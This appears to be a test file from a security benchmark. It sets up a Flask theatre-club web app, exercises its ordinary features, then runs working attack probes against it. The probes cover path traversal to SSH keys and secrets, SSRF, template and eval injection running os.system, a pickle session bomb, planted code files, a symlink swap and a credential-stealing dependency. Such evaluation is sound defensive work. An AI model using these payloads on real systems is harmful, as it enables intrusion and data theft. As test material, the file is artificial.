# SPDX-License-Identifier: Apache-2.0
"""The site of an amateur theatre: Flask with blueprints, Pony, sessions."""
import hashlib
import io
import os
import pickle
import struct
import time
import urllib.parse
import wave

from attackers import Bomb, in_yaml
import stage

PEOPLE = ["anna", "bruno", "chris", "dora", "emil", "frida", "gustav", "hanna",
          "Mary Ann", "j.r.smith", "zoë-lu", "O'Hara"]
SEATPLAN = {"__init__.py": "PRICES = {'barn': 900, 'town hall': 1400}\n\n\n"
                           "def takings(hall, sold):\n"
                           "    return PRICES.get(hall, 1000) * sold\n"}
SEATPLAN_NEW = {
    "__init__.py": '"""Prices of seats."""\n'
                   "from seatplan.halls import takings\n"
                   "__all__ = ['takings']\n",
    "halls.py": "import importlib.resources\nimport json\n\n"
                "PRICES = json.loads((importlib.resources.files('seatplan')"
                " / 'prices.json').read_text())\n\n\n"
                "def takings(hall, sold):\n"
                "    return PRICES.get(hall, 1000) * sold\n",
    "prices.json": '{"barn": 950, "town hall": 1400}\n'}
SCRIPT = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
          b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
          b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]"
          b"/Contents 4 0 R/Resources<</Font<</F1<</Type/Font/Subtype/Type1"
          b"/BaseFont/Helvetica>>>>>>>>endobj\n"
          b"4 0 obj<</Length 45>>stream\nBT /F1 12 Tf 20 100 Td "
          b"(Enter a ghost) Tj ET  \nendstream endobj\n"
          b"trailer<</Root 1 0 R>>\n%%EOF\n")
ORDERS = ["p.sold", "p.hall", "p.day"]
KINDS = ("attendance", b"\x89PNG"), ("takings", b"PK"), ("programme", b"%PDF")


def picture(name, side):
    """What a camera sends, in the format of the name's extension."""
    from PIL import Image  # pylint: disable=import-outside-toplevel
    kept = io.BytesIO()
    Image.new("RGB", (side, side), (side, 40, 90)).save(kept, {
        "jpg": "JPEG"}.get(name.rsplit(".", 1)[-1].lower(),
                           name.rsplit(".", 1)[-1]))
    return kept.getvalue()


def sound(seconds):
    """A quiet recording."""
    kept = io.BytesIO()
    with wave.open(kept, "wb") as file:
        file.setnchannels(1)
        file.setsampwidth(2)
        file.setframerate(22050)
        file.writeframes(b"\0\1" * int(22050 * seconds))
    return kept.getvalue()


def content(kind, name, size):
    if kind == "costumes":
        return picture(name, size)
    if name.endswith(".wav"):
        return sound(size)
    if name.endswith(".pdf"):
        return SCRIPT
    return b"Enter a ghost.\n" * size


# Day: who, slug, title, files (kind, folder, name, size), nights, month of
# the reports, and their options.
EVENINGS = {
    1: [("anna", "hamlet", "Hamlet",
         [("scripts", "", "hamlet.pdf", 1),
          ("scripts", "act-1", "scene 2.pdf", 1),
          ("costumes", "court", "queen.jpg", 90),
          ("sounds", "", "ghost.wav", 2)],
         [("2026-01-09", "barn", 80), ("2026-01-10", "barn", 95)],
         "2026/1", {"style": "ggplot", "paper": "a5"}),
        ("bruno", "the-seagull", "The Seagull",
         [("scripts", "", "seagull_v2.odt", 30),
          ("costumes", "nina/act 4", "shawl.png", 60),
          ("sounds", "effects", "gunshot.wav", 20)],
         [("2026-02-13", "town hall", 120)],
         "2026/2", {"dpi": 100, "freeze": 1}),
        ("chris", "our-town-2026", "Our Town",
         [("scripts", "", "Our Town.txt", 400),
          ("costumes", "", "emily.png", 40),
          ("costumes", "", "IMG_2041.JPG", 70),
          ("sounds", "", "train.wav", 1)],
         [("2026-02-20", "barn", 60), ("2026-02-21", "barn", 71)],
         "2026/2", {"motto": "With a moon", "style": "fast"})],
    2: [("dora", "arsenic-and-lace", "Arsenic & Lace",
         [("scripts", "", "lace.pdf", 1),
          ("scripts", "notes/dora", "stage plan.txt", 12),
          ("costumes", "aunts", "abby_martha.png", 50),
          ("sounds", "act 2", "bugle.wav", 18)],
         [("2026-03-06", "school", 44), ("2026-03-07", "school", 52)],
         "2026/3", {"paper": "a5", "dpi": 120}),
        ("anna", "hamlet", "Hamlet",
         [("scripts", "act-5", "duel-3.pdf", 1),
          ("costumes", "court/ladies", "ophelia.2.jpg", 85),
          ("sounds", "effects", "swords.wav", 3)],
         [("2026-03-14", "barn", 77)],
         "2026/3", {"style": "ggplot", "freeze": 1}),
        ("emil", "faust1", "Faust I",
         [("scripts", "", "Faust.odt", 500),
          ("costumes", "", "poodle.png", 33),
          ("sounds", "", "cellar.wav", 1)],
         [("2026-04-30", "town hall", 150)],
         "2026/4", {"style": "seaborn-v0_8-pastel", "motto": "Now or never"})],
    3: [("frida", "twelfth-night", "Twelfth Night",
         [("scripts", "", "twelfth.pdf", 1),
          ("scripts", "act-3", "letter.txt", 9),
          ("costumes", "malvolio", "stockings.jpg", 75),
          ("sounds", "songs", "wind and rain.wav", 19)],
         [("2026-05-08", "park", 30), ("2026-05-09", "park", 66)],
         "2026/5", {"style": "fast", "paper": "a4"}),
        ("gustav", "the-visit", "The Visit",
         [("scripts", "", "visit_v3.odt", 60),
          ("costumes", "claire/act 1", "red dress.png", 55),
          ("sounds", "", "bell.wav", 1)],
         [("2026-06-12", "town hall", 99)],
         "2026/6", {"dpi": 90, "freeze": 1}),
        ("bruno", "the-seagull", "The Seagull",
         [("scripts", "notes/bruno", "cuts-2.pdf", 1),
          ("costumes", "", "DSC0017.jpg", 64),
          ("sounds", "effects", "lake.wav", 2)],
         [("2026-06-19", "barn", 70)],
         "2026/6", {"style": "ggplot", "motto": "To Moscow"})]}
NEW_EVENINGS = [
    ("Mary Ann", "uncle vanya 2027", "Onkel Wanja & Größe",
     [("scripts", "", "Uncle Vanya (final).docx", 45),
      ("scripts", "act 4/scene 1/old", "v1.2.2027-01-31.pdf", 1),
      ("costumes", "guests/first night", "samovar no. 3.gif", 80),
      ("sounds", "effects/night", "crickets.v2.ogg", 900)],
     [("2027-11-05", "St. Mary's", 120), ("2027-11-06", "barn", 1)],
     "2027/11", {"style": "grayscale", "paper": "a5"}),
    ("j.r.smith", "r.u.r", "R.U.R.",
     [("scripts", "", "Räuber & Söhne.fountain", 70),
      ("costumes", "", "robot.17.bmp", 48),
      ("sounds", "", "factory-hall_2.wav", 25),
      ("sounds", "act 3/alarm", "siren.flac", 800)],
     [("2031-12-31", "town hall", 140)],
     "2031/12", {"dpi": 150, "motto": "Größe, “quoted”"}),
    ("zoë-lu", "1984", "1984",
     [("scripts", "", "notes", 3),
      ("costumes", "o'brien", "Uniform (blue) copy.jpeg", 72),
      ("sounds", "", "hate week.wav", 2)],
     [("2026-01-23", "barn", 84)],
     "2026/1", {"freeze": 1, "landscape": 1}),
    ("O'Hara", "the-seagull", "The Seagull",
     [("scripts", "act-2", "scene 2.pdf", 1)],
     [("2028-02-29", "barn", 12)], "2028/2", {})]


class FlaskTheatre(stage.Service):
    """Plays, uploads and monthly reports of many people (Flask, Pony)."""
    packages = ["python3-flask", "python3-flask-session", "python3-cachelib",
                "python3-pony", "gunicorn", "python3-matplotlib",
                "python3-reportlab", "python3-openpyxl", "python3-pil",
                "python3-yaml", "poppler-utils", "zip"]

    def arrange(self):
        stage.write(self.srv / "instance/settings.py",
                    f"SECRET_KEY = 'not-{stage.SECRET}'\n"
                    "MAIL_FROM = 'office@theatre.example'\n"
                    "MAX_CONTENT_LENGTH = 30_000_000\n", 0o600)
        for name in ("log", "run", "sessions", "portraits", "uploads",
                     "bundles", "reports", "cache", "outgoing/cur",
                     "outgoing/new", "outgoing/tmp"):
            (self.srv / "var" / name).mkdir(parents=True)
        self.install("seatplan", "2.1.0", SEATPLAN)
        self.seed("var/theatre.db", self.python, "seed.py", *PEOPLE)

    def arrange_benign(self):
        self.install("seatplan", "2.1.1", SEATPLAN_NEW)

    def environment(self):
        return {**super().environment(),
                "MPLCONFIGDIR": str(self.srv / "var/cache/matplotlib")}

    def command(self):
        return [self.python, "/usr/bin/gunicorn", "--bind",
                f"127.0.0.1:{self.port('web')}", "theatre:create_app()"]

    def is_ready(self):
        """gunicorn listens before its workers are there."""
        return self.browser().get("/")[0] == 200

    # ------------------------------------------------------------ ordinary use
    def enter(self, name, password=None):
        browser = self.browser()
        self.expect_answer(f"{name} enters", browser.post(
            "/login", user=name, password=password or name[::-1]), "<ul>")
        return browser

    def stages(self, browser, slug, title, nights):
        self.expect_answer(f"play {slug}", browser.post(
            "/productions", slug=slug, title=title), "directed by")
        for day, hall, sold in nights:
            self.expect_answer(f"{slug} on {day}", browser.post(
                f"/productions/{slug}/performances", day=day, hall=hall,
                sold=sold), day)

    def sends(self, browser, slug, kind, folder, name, size=1):
        data = content(kind, name, size)
        path = os.path.join(folder, name)
        self.expect_answer(f"send {path}", browser.upload(
            f"/files/{slug}/{kind}", name, data, folder=folder), "about")
        self.expect_answer(f"get {path}", browser.get(
            f"/files/{slug}/{kind}", name=path), data[:40])
        return f"{kind}/{path}"

    def bundles(self, browser, slug, names):
        self.expect_answer(f"bundle of {slug}", browser.fetch(
            f"/files/{urllib.parse.quote(slug)}/bundle?"
            + urllib.parse.urlencode(
                [("name", name) for name in names])), b"PK")

    def cues(self, browser, slug, names):
        sheet = "".join(f"- sound: {name!r}\n  page: {number}\n"
                        for number, name in enumerate(names))
        self.expect_answer(f"cues of {slug}", browser.upload(
            f"/files/{slug}/cues", "cues.yaml", sheet.encode(),
            "text/yaml"), '"cues":%d' % len(names))

    def sells(self, browser, slug, day):
        self.site("shop").page(f"/export/{slug}/{day}.csv",
                               f"day,hall,sold\n{day},barn,12\n")
        self.expect_answer(f"sales of {slug}", browser.post(
            f"/productions/{slug}/import",
            url=self.site("shop").url + urllib.parse.quote(
                f"/export/{slug}/{day}.csv")), "nights")

    def reports(self, browser, month, options):
        for kind, start in KINDS:
            self.expect_answer(f"{kind} {month}", browser.get(
                f"/reports/{month}/{kind}", **options), start)

    def calls(self, browser, slug, names):
        self.expect_answer(f"call for {slug}", browser.fetch(
            f"/post/{urllib.parse.quote(slug)}/call",
            urllib.parse.urlencode(
                [("to", name) for name in names]
                + [("text", "Dear {{ name }}, {{ play|upper }} on Monday")]
            ).encode()), f"Dear {names[-1]}")

    def evening(self, name, slug, title, files, nights, month, options):
        browser = self.enter(name)
        self.expect_answer(f"portrait of {name}", browser.upload(
            "/portrait", "me.png", picture("me.png", 70 + len(name))),
            b"\xff\xd8")
        self.stages(browser, slug, title, nights)
        sent = [self.sends(browser, slug, *file) for file in files]
        self.expect_answer(f"page of {slug}", browser.get(
            f"/productions/{slug}", order=ORDERS[len(slug) % len(ORDERS)]),
            nights[0][0])
        self.bundles(browser, slug, sent)
        self.cues(browser, slug, [
            path.split("/", 1)[1] for path in sent if "sounds/" in path])
        self.sells(browser, slug, nights[0][0])
        self.reports(browser, month, options)
        self.calls(browser, slug, [name, "anna", "hanna"])
        self.expect_answer(f"{name} goes", browser.post("/logout"),
                           "stranger")

    def strangers(self, day):
        visitor = self.browser()
        self.expect_answer("home", visitor.get("/"), "stranger")
        self.expect_answer("style", visitor.get("/static/stage.css"), "maroon")
        self.expect_answer("not a member", visitor.get("/productions"),
                           status=403)
        self.expect_answer("wrong password", visitor.post(
            "/login", user="hanna", password=f"x{day}"), status=403)
        self.expect_answer("no such page", visitor.get(f"/page-{day}"),
                           status=404)
        self.expect_answer("new member", visitor.post(
            "/register", user=f"extra{day}", password=f"pass-{day}"),
            f"extra{day}")
        self.expect_answer("its portrait", self.enter(
            f"extra{day}", f"pass-{day}").upload(
                "/portrait", "me.jpg", picture("me.jpg", 80)), b"\xff\xd8")

    def train(self, day):
        self.strangers(day)
        for evening in EVENINGS[day]:
            self.evening(*evening)
        browser = self.enter("hanna")
        slug = EVENINGS[day][0][1]
        self.expect_answer("plays", browser.get("/productions"), "<li>")
        self.expect_answer("play", browser.get(f"/productions/{slug}"), "seen")
        if day != 1:
            self.expect_answer("no picture", browser.upload(
                f"/files/{slug}/costumes", f"holiday{day}.png", b"sunny"),
                status=400)
        self.restart()
        self.expect_answer("session is kept", browser.get(
            f"/productions/{slug}"), "seen")
        self.reports(browser, EVENINGS[day][1][5], {})
        self.sends(browser, slug, "scripts", "", f"errata-{day}.pdf")

    def benign(self):
        for evening in NEW_EVENINGS:
            self.evening(*evening)
        visitor = self.browser()
        self.expect_answer("new member", visitor.post(
            "/register", user="Dr. K. Nowak", password="a b"), "Nowak")
        self.expect_answer("its portrait", self.enter(
            "Dr. K. Nowak", "a b").upload(
                "/portrait", "me.gif", picture("me.gif", 64)), b"\xff\xd8")
        self.expect_answer("taken", visitor.post(
            "/register", user="anna", password="x"), status=409)
        self.expect_answer("unknown", visitor.post(
            "/login", user="nobody at all", password="x"), status=403)
        browser = self.enter("dora")
        self.expect_answer("another order", browser.get(
            "/productions/1984", order="p.cents"), "2026-01-23")
        self.errors(browser)
        for name in PEOPLE * 2:  # the log is rotated
            browser = self.enter(name)
        self.restart()
        self.expect_answer("session is kept", browser.get("/productions"),
                           "Wanja")
        self.sends(browser, "1984", "costumes", "crowd/2/left", "c.png", 90)

    def errors(self, browser):
        for what, answer, status in (
                ("file", browser.get("/files/1984/scripts", name="none.pdf"),
                 404),
                ("kind of file", browser.upload(
                    "/files/1984/props", "skull.png", b"x"), 404),
                ("picture", browser.upload(
                    "/files/1984/costumes", "late.bmp", b"BMW"), 400),
                ("play", browser.get("/productions/the sea"), 404),
                ("date", browser.post("/productions/1984/performances",
                                      day="soon", hall="barn", sold=1), 400),
                ("month", browser.get("/reports/2026/13/takings"), 404),
                ("report", browser.get("/reports/2026/5/seating"), 404),
                ("paper", browser.get("/reports/2026/5/programme",
                                      paper="a3"), 500),
                ("sales", browser.post("/productions/1984/import",
                                       url=self.site("shop").url + "/gone"),
                 500),
                ("name for a bundle", browser.get(
                    "/files/1984/bundle", name="scripts/none.pdf"), 400),
                ("way to call", browser.get("/post/1984/call"), 405),
                ("icon", browser.get("/favicon.ico"), 404)):
            self.expect_answer(f"no such {what}", answer, status=status)

    def health(self):
        browser = self.enter("anna")
        self.stages(browser, "hamlet", "Hamlet", [("2026-01-09", "barn", 80)])
        self.sends(browser, "hamlet", "scripts", "", "hamlet.pdf")
        self.expect_answer("report", browser.get("/reports/2026/1/takings"),
                           b"PK")

    # ----------------------------------------------------------------- attacks
    def intruder(self):
        """Somebody with a play of his own."""
        browser = self.enter("anna")
        browser.post("/productions", slug="hamlet", title="Hamlet")
        browser.upload("/files/hamlet/scripts", "a.txt", b"text", folder="")
        return browser

    def gets_file(self, name):
        return self.intruder().get("/files/hamlet/scripts", name=name)[1]

    def sends_file(self, folder, name, data):
        self.intruder().upload("/files/hamlet/scripts", name, data,
                               folder=folder)

    def imports(self, url):
        return self.intruder().post("/productions/hamlet/import", url=url)[1]

    def renders(self, code):
        """code: an expression."""
        return self.intruder().post("/post/hamlet/call", to="anna", text=(
            "{{ cycler.__init__.__globals__.__builtins__." + code + " }}"))[1]

    def orders(self, code):
        """code: an expression."""
        self.intruder().get("/productions/hamlet", order=f"p.sold + {code}")

    def cue_runs(self, code):
        """code: statements."""
        self.intruder().upload("/files/hamlet/cues", "cues.yaml",
                               in_yaml(code).encode(), "text/yaml")

    @stage.attack("traversal")
    def script_is_a_private_key(self):
        return self.is_told(self.gets_file(
            "../../../../../home/.ssh/id_rsa"))

    @stage.attack("source disclosure")
    def script_is_the_source(self):
        return b"HOLE" in self.gets_file("../../../../theatre/library.py")

    @stage.attack("secret disclosure")
    def script_is_the_settings(self):
        return self.is_told(self.gets_file(
            f"{self.srv}/instance/settings.py"))

    @stage.attack("SSRF")
    def sales_are_an_internal_service(self):
        return self.fetches_inside(self.imports)

    @stage.attack("SSRF")
    def style_is_an_internal_service(self):
        inside = self.site("internal")
        inside.page("*", "figure.dpi: 70")
        self.intruder().get("/reports/2026/1/attendance",
                            style=inside.url + "/admin/restart")
        return inside.heard("/admin/restart")

    @stage.attack("secret disclosure")
    def sales_are_the_payroll(self):
        return self.is_told(self.imports(
            f"file://{self.place}/payroll/2026.csv"))

    @stage.attack("argument injection")
    def bundle_is_tested_by_a_command(self):
        def use(line):
            self.intruder().fetch(
                "/files/hamlet/bundle?" + urllib.parse.urlencode(
                    [("name", name) for name in (
                        "scripts/a.txt", "-T", "-TT", f"{line} #")]))
        return self.runs_line(use)

    @stage.attack("template injection")
    def call_runs_a_command(self):
        return self.template_runs(self.renders)

    @stage.attack("exfiltration")
    def call_sends_credentials(self):
        return self.template_steals(self.renders)

    @stage.attack("eval injection")
    def order_runs_a_command(self):
        return self.runs_line(lambda line: self.orders(
            f"__import__('os').system('{line}')"))

    @stage.attack("ctypes")
    def order_calls_libc(self):
        return self.runs_libc(self.orders)

    @stage.attack("fork+exec")
    def cue_forks(self):
        return self.forks(self.cue_runs)

    @stage.attack("reverse shell")
    def cue_calls_home(self):
        return self.calls_home(self.cue_runs)

    @stage.attack("unsafe pickle", fresh=True)
    def script_becomes_a_session(self):
        cookie = "0b5e1c6e-4711-4711-4711-0123456789ab"
        name = hashlib.md5(f"session:{cookie}".encode()).hexdigest()

        def use(line):
            self.sends_file("../../../sessions", name, struct.pack(
                "I", int(time.time()) + 3600) + pickle.dumps(
                    Bomb(os.system, line)))
            self.browser().fetch("/", headers={"Cookie": f"session={cookie}"})
        return self.runs_line(use)

    @stage.attack("write to code", fresh=True)
    def script_becomes_a_report(self):
        def use(line):
            self.sends_file("../../../../theatre/kinds", "evil.py",
                            f"import os\nos.system('{line}')\n".encode())
            self.intruder().get("/reports/2026/1/evil")
        return self.runs_line(use)

    @stage.attack("write to start-up file", fresh=True)
    def script_replaces_the_server_settings(self):
        self.sends_file("../../../..", "gunicorn.conf.py", b"# planted\n")
        return "planted" in (self.srv / "gunicorn.conf.py").read_text()

    @stage.attack("symlink swap", fresh=True)
    def script_became_a_link(self):
        self.intruder()
        path = self.srv / "var/uploads/hamlet/scripts/a.txt"
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        return self.is_told(self.gets_linked())

    def gets_linked(self):
        return self.enter("anna").get("/files/hamlet/scripts", name="a.txt")

    @stage.attack("malicious dependency", fresh=True)
    def seatplan_sends_credentials(self):
        return self.dependency_steals("seatplan", "2.1.1", SEATPLAN,
                                      self.restart)
